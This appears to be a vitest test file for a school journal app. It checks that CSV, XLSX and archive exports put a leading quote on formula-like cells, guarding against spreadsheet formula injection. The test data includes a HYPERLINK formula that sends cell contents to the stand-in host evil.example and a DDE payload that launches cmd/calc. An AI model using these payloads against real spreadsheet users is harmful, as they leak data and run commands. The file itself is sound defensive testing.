import { readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createSchoolAndSignIn, TestSession } from '../support/client';
import { engines, startTestCore, type TestCore } from '../support/engines';
import type { JournalSchool } from '../support/journal-fixture';
import { buildSmallSchool, type SmallSchool } from '../support/school-fixture';
import { schoolWithJournal, tempDir } from './backup-helpers';
import { runJobDone } from '../support/jobs';

// Text a spreadsheet would run as a formula leaves the app with a leading quote (OWASP);
// what the school typed stays as typed.

const hyperlink = '=HYPERLINK("http://evil.example/?d="&A2;"Подробнее")';
const sum = '@SUM(1+1)*cmd|\' /C calc\'!A0';

describe.each(engines)('spreadsheet exports escape formulas on %s', (engine) => {
  let t: TestCore;
  afterEach(async () => t.close());

  describe('the school lists', () => {
    let admin: TestSession;
    let school: SmallSchool;
    beforeEach(async () => {
      t = await startTestCore(engine);
      admin = await createSchoolAndSignIn(t.core);
      school = await buildSmallSchool(admin);
      await admin.ok('students.create', { surname: hyperlink, name: sum, patronymic: '+79991234567', classId: school.classId, arrivedOn: '2026-09-01', arrivalOrder: '-1 от 01.09' });
    });

    it('CSV and XLSX cells starting with = + - @ get a quote; the stored names do not', async () => {
      const csv = await admin.ok('export.list', { kind: 'students', format: 'csv' });
      const lines = Buffer.from(csv.content, 'base64').toString('utf8').split('\r\n');
      const row = lines.find((line) => line.includes('HYPERLINK'))!;
      // Quotes inside the formula are doubled by CSV quoting; the cell begins with ' all the same.
      expect(row).toBe(`"'=HYPERLINK(""http://evil.example/?d=""&A2;""Подробнее"")";'@SUM(1+1)*cmd|' /C calc'!A0;'+79991234567;;;5А;01.09.2026;'-1 от 01.09`);

      const xlsx = await admin.ok('export.list', { kind: 'students', format: 'xlsx' });
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(Buffer.from(xlsx.content, 'base64') as unknown as ArrayBuffer);
      const sheet = workbook.worksheets[0]!;
      const cells = sheet.getRows(2, sheet.rowCount - 1)!.map((r) => (r.values as unknown[]).slice(1)).find((values) => String(values[0]).includes('HYPERLINK'))!;
      expect(cells.slice(0, 3)).toEqual([`'${hyperlink}`, `'${sum}`, "'+79991234567"]);
      expect(cells[7]).toBe("'-1 от 01.09");
      expect(sheet.getCell('A2').formula).toBeUndefined();

      // Hours per week stay plain numbers.
      const load = Buffer.from((await admin.ok('export.list', { kind: 'load', format: 'csv' })).content, 'base64').toString('utf8');
      expect(load).toContain('5А;Математика;;Иванова Мария Сергеевна;5');

      const stored = (await admin.ok('students.list', { classId: school.classId })).find((s) => s.surname === hyperlink);
      expect(stored).toMatchObject({ surname: hyperlink, name: sum, patronymic: '+79991234567' });

      // The exported file read back shows the names as typed (the quote the export added is taken off).
      const preview = await admin.ok('import.preview', { kind: 'students', fileName: csv.fileName, content: csv.content });
      expect(preview.rows.find((r) => r.values['Фамилия'] === hyperlink)?.values).toMatchObject({ Имя: sum, Отчество: '+79991234567', 'Приказ о зачислении': '-1 от 01.09' });
    });
  });

  describe('the year-end archive', () => {
    let school: JournalSchool;
    let dir: string;
    beforeEach(async () => {
      t = await startTestCore(engine);
      school = await schoolWithJournal(t);
      dir = tempDir('zhurnal-archive-');
    });
    afterEach(() => rmSync(dir, { recursive: true, force: true }));

    it('escapes text cells in every CSV and leaves negative numbers as numbers', async () => {
      await school.admin.ok('students.update', { id: school.students.alekseev, surname: hyperlink, name: '-Артём', patronymic: '' });
      // Fixture data: a subject ordered before the others with a negative sort order.
      await t.core.store.db.updateTable('subject').set({ sort_order: -3 }).where('name', '=', 'Математика').execute();
      await runJobDone(school.admin, 'backup.exportYear', { year: '2026/2027', to: dir });
      const report = { folder: join(dir, 'zhurnal-archive-2026-2027') };

      const students = readFileSync(join(report.folder, 'csv', 'student.csv'), 'utf8');
      expect(students).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A2;""Подробнее"")";'-Артём;`);
      expect(students).not.toMatch(/(^|;)=HYPERLINK/m);

      const subjects = readFileSync(join(report.folder, 'csv', 'subject.csv'), 'utf8').slice(1).trimEnd().split('\r\n');
      const columns = subjects[0]!.split(';');
      const math = subjects.find((line) => line.includes(';Математика;'))!.split(';');
      expect(math[columns.indexOf('sort_order')]).toBe('-3');

      // JSON keeps the data exactly; the database too.
      const json = JSON.parse(readFileSync(join(report.folder, 'json', 'student.json'), 'utf8')) as { surname: string }[];
      expect(json.map((s) => s.surname)).toContain(hyperlink);
      const stored = await t.core.store.db.selectFrom('student').select('surname').where('id', '=', school.students.alekseev).executeTakeFirstOrThrow();
      expect(stored.surname).toBe(hyperlink);
    });
  });
});
